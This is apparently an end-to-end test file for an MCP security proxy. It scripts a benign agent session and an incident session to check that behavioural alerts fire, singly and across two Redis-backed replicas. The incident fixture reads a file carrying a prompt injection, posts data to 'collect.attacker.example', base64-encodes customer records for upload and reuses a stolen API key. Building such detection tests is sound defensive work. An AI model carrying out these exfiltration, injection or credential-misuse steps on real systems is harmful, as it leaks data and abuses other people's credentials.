"""Behavioural detections end to end: a real SDK client through `drawbridge serve` in front of a real MCP
server with the tools of an incident, then the same with two replicas on one real Redis, the calls
alternating between them. A benign session raises nothing; the incident raises each alert, with its fields."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp.shared.exceptions import MCPError

from tests.support.drawbridge import Drawbridge, run_drawbridge, run_module_server
from tests.support.mcp_http import ACCEPT, PROTOCOL
from tests.support.redis_server import RedisServer
from tests.support.sdk import sdk_client
from tests.support.servers.incident_server import CUSTOMERS

pytestmark = [pytest.mark.e2e, pytest.mark.anyio]
ALICE_KEY, BOB_KEY = "db-test-key-incident-alice", "db-test-key-benign-bob"
IDENTITY = {"api_keys": [
    {"sha256": hashlib.sha256(ALICE_KEY.encode()).hexdigest(), "principal": "alice", "agent": "agent-a"},
    {"sha256": hashlib.sha256(BOB_KEY.encode()).hexdigest(), "principal": "bob", "agent": "agent-b"},
]}
POLICY = """\
version: 1
settings:
  egress:
    action: block
    egress_tools: [http_post, send_email]
    allow:
      - {tools: [http_post, send_email], principals: ["*"], hosts: [partner.example]}
  detections:
    velocity_per_minute: 30
    baselines: {"agent-b": [[search, summarize], [summarize, search]]}
rules:
  - {id: to-server, effect: permit, methods: ["*"]}
  - {id: to-client, effect: permit, direction: to_client, methods: ["*"]}
"""
INCIDENT = {"result_injection", "new_egress_destination", "sensitive_first_use", "velocity", "result_exfiltration",
            "credential_misuse"}
Call = Callable[[str, dict[str, Any]], Awaitable[Any]]


@pytest.fixture(scope="module")
def incident_server() -> Iterator[str]:
    with run_module_server("tests.support.servers.incident_server") as url:
        yield url


@pytest.fixture
def policy(tmp_path: Path) -> Path:
    directory = tmp_path / "policy"
    directory.mkdir()
    (directory / "policy.yaml").write_text(POLICY)
    return directory


def alerts(*proxies: Drawbridge) -> list[dict[str, Any]]:
    return [e for proxy in proxies for e in proxy.events("alert")]


async def until(condition: Callable[[], bool], seconds: float = 10.0) -> bool:
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            return False
        await asyncio.sleep(0.1)
    return True


async def quietly(call: Call, tool: str, arguments: dict[str, Any]) -> None:
    """A call whose refusal is part of the scenario (the refusal is what the agent sees, not the test)."""
    with contextlib.suppress(MCPError):
        await call(tool, arguments)


async def benign(call: Call) -> None:
    for _ in range(2):
        await call("search", {"query": "quarterly revenue"})
        await call("summarize", {"text": "revenue up 4 percent, churn flat"})


async def incident(call: Call) -> None:
    await quietly(call, "read_file", {"path": "notes/poisoned.md"})  # the result carries an injection
    await quietly(call, "http_post", {"url": "https://collect.attacker.example/upload", "body": "x"})
    await call("fs.delete", {"path": "notes/q3.md"})
    for n in range(32):  # a burst over the limit of 30 a minute
        await call("search", {"query": f"page {n}"})
    await call("read_file", {"path": "data/customers.csv"})
    encoded = base64.b64encode(CUSTOMERS.encode()).decode()
    await quietly(call, "http_post", {"url": "https://partner.example/ingest", "body": encoded})


async def credential_elsewhere(url: str) -> None:
    """Alice's key, used from another client address (127.0.0.2) while her session runs."""
    transport = httpx.AsyncHTTPTransport(local_address="127.0.0.2")
    async with httpx.AsyncClient(transport=transport, timeout=10) as http:
        answer = await http.post(url, headers={**ACCEPT, "x-api-key": ALICE_KEY, "mcp-protocol-version": PROTOCOL,
                                               "user-agent": "stolen-key/1.0"},
                                 json={"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
                                     "protocolVersion": PROTOCOL, "capabilities": {},
                                     "clientInfo": {"name": "elsewhere", "version": "1"}}})
        assert answer.status_code == 200


def check_incident(found: list[dict[str, Any]], decisions: list[dict[str, Any]]) -> None:
    alice = [a for a in found if a["principal"] == "alice"]
    assert {a["detection"] for a in alice} >= INCIDENT
    by = {a["detection"]: a for a in alice}
    exfil = by["result_exfiltration"]
    assert (exfil["severity"], exfil["atlas"], exfil["tool"], exfil["window"]["source_tool"]) == (
        "SEV-1", "AML.T0086", "http_post", "read_file")
    destinations = {a["window"]["destination"]: a for a in alice if a["detection"] == "new_egress_destination"}
    assert set(destinations) == {"collect.attacker.example", "partner.example"}
    unlisted = destinations["collect.attacker.example"]
    assert (unlisted["severity"], unlisted["window"]["allowlisted"], unlisted["window"]["verdict"]) == (
        "SEV-2", False, "deny")
    assert destinations["partner.example"]["severity"] == "SEV-3"
    assert {a["tool"] for a in alice if a["detection"] == "sensitive_first_use"} >= {"fs.delete", "http_post"}
    assert by["velocity"]["window"]["calls"] == 31 and by["velocity"]["scope"] == "session"
    assert by["result_injection"]["tool"] == "read_file" and by["result_injection"]["atlas"] == "AML.T0051.001"
    assert by["credential_misuse"]["window"]["reason"] == "two_places"
    known = {e["event_id"] for e in decisions}
    for alert in alice:
        assert alert["event_type"] == "alert" and alert["agent"] == "agent-a" and alert["upstream"] == "default"
        assert alert["severity"] in ("SEV-1", "SEV-2", "SEV-3", "SEV-4") and alert["atlas"].startswith("AML.T")
        assert alert["event_ids"] and set(alert["event_ids"]) <= known, alert


async def test_one_proxy_a_benign_session_is_quiet_and_the_incident_raises_every_alert(
        tmp_path: Path, incident_server: str, policy: Path) -> None:
    with run_drawbridge(tmp_path, {"default": incident_server}, policy=policy, extra={"identity": IDENTITY}) as proxy:
        async with sdk_client(proxy.mcp_url(), headers={"x-api-key": BOB_KEY}) as bob:
            await benign(bob.call_tool)
        await asyncio.sleep(0.5)
        assert alerts(proxy) == []
        async with sdk_client(proxy.mcp_url(), headers={"x-api-key": ALICE_KEY}) as alice:
            await incident(alice.call_tool)
            await credential_elsewhere(proxy.mcp_url())
        async with sdk_client(proxy.mcp_url(), headers={"x-api-key": BOB_KEY}) as bob:
            await bob.call_tool("search", {"query": "notes"})
            await bob.call_tool("read_file", {"path": "notes/q3.md"})  # search -> read_file: not declared
        assert await until(lambda: {a["detection"] for a in alerts(proxy)} >= INCIDENT | {"sequence_deviation"}), \
            {a["detection"] for a in alerts(proxy)}
        check_incident(alerts(proxy), proxy.events())
        [deviation] = [a for a in alerts(proxy) if a["detection"] == "sequence_deviation"]
        assert (deviation["principal"], deviation["window"]["previous_tool"], deviation["window"]["tool"]) == (
            "bob", "search", "read_file")


class Alternating:
    """Raw JSON-RPC calls in one session, sent to replica A and replica B in turn."""

    def __init__(self, urls: list[str], key: str) -> None:
        self.urls, self.key, self.turn, self.ids = urls, key, 0, 0
        self.http = httpx.AsyncClient(timeout=15)
        self.headers: dict[str, str] = {**ACCEPT, "x-api-key": key}

    async def open(self) -> None:
        opened = await self.http.post(self.urls[0], headers=self.headers, json={
            "jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
                "protocolVersion": PROTOCOL, "capabilities": {}, "clientInfo": {"name": "alt", "version": "1"}}})
        assert opened.status_code == 200
        self.headers |= {"mcp-protocol-version": PROTOCOL, "mcp-session-id": opened.headers["mcp-session-id"]}
        done = await self.http.post(self.urls[1], headers=self.headers,
                                    json={"jsonrpc": "2.0", "method": "notifications/initialized"})
        assert done.status_code == 202

    async def __call__(self, tool: str, arguments: dict[str, Any]) -> Any:
        self.turn, self.ids = self.turn + 1, self.ids + 1
        url = self.urls[self.turn % 2]
        answer = await self.http.post(url, headers=self.headers, json={
            "jsonrpc": "2.0", "id": self.ids, "method": "tools/call", "params": {"name": tool, "arguments": arguments}})
        assert answer.status_code == 200, answer.text
        return answer.json()


async def test_two_replicas_on_one_redis_share_every_window(
        tmp_path: Path, incident_server: str, policy: Path, own_redis: RedisServer) -> None:
    extra = {"identity": IDENTITY, "store": own_redis.url}
    with run_drawbridge(tmp_path, {"default": incident_server}, policy=policy, extra=extra) as a, \
            run_drawbridge(tmp_path, {"default": incident_server}, policy=policy, extra=extra) as b:
        urls = [a.mcp_url(), b.mcp_url()]
        bob = Alternating(urls, BOB_KEY)
        await bob.open()
        await benign(bob)
        await asyncio.sleep(0.5)
        assert [(x["detection"], x["summary"]) for x in alerts(a, b)] == []
        alice = Alternating(urls, ALICE_KEY)
        await alice.open()
        await incident(alice)
        await credential_elsewhere(b.mcp_url())
        await bob("read_file", {"path": "notes/q3.md"})  # after summarize: not in the declared baseline
        assert await until(lambda: INCIDENT | {"sequence_deviation"} <= {x["detection"] for x in alerts(a, b)}), \
            {x["detection"] for x in alerts(a, b)}
        found = alerts(a, b)
        check_incident(found, a.events() + b.events())
        for detection, expected in (("velocity", 1), ("result_exfiltration", 1), ("new_egress_destination", 2)):
            assert len([x for x in found if x["detection"] == detection]) == expected, detection  # one history
        assert {x["tool"] for x in found if x["detection"] == "sensitive_first_use"} == {"fs.delete", "http_post"}
        await alice.http.aclose()
        await bob.http.aclose()
